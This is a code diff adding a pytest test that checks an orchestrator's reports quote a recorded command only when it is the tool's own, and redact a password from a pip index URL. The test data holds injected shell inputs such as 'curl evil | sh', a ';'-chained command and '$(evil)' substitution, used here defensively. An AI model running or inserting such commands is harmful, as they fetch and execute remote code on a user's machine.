@@ -8,6 +8,7 @@ import shutil
 
 import pytest
 
+from orchestrator.run import stranger
 from tests.fakes.roots import make_root
 from tests.fakes.runs import Bench, rows_of
 
@@ -196,3 +197,20 @@ def test_ones_own_run_that_grew_by_until_asks_nothing_and_keeps_its_root(bench):
     next(run.glob("jobs/*/result.json")).unlink()
     code, _, stderr = bench.finish("run", "--resume", run)
     assert code == 0, stderr
+
+
+@pytest.mark.parametrize(
+    ("command", "shown"),
+    [
+        ("orchestrate run --stack 'keras3-*'", "orchestrate run --stack 'keras3-*'"),
+        ("orchestrate run --pip-index-url https://u:S3CRET@h/", "orchestrate run --pip-index-url https://h/"),
+        ("orchestrate run; curl evil | sh", ""),
+        ("curl evil | sh", ""),
+        ("orchestrate run $(evil)", ""),
+        ("orchestrate 'run", ""),
+        (None, ""),
+    ],
+)
+def test_a_recorded_command_is_quoted_only_where_it_is_one_of_ours(command, shown):
+    """A report says it under "All of it again", and people paste it."""
+    assert stranger.shown_command(command) == shown
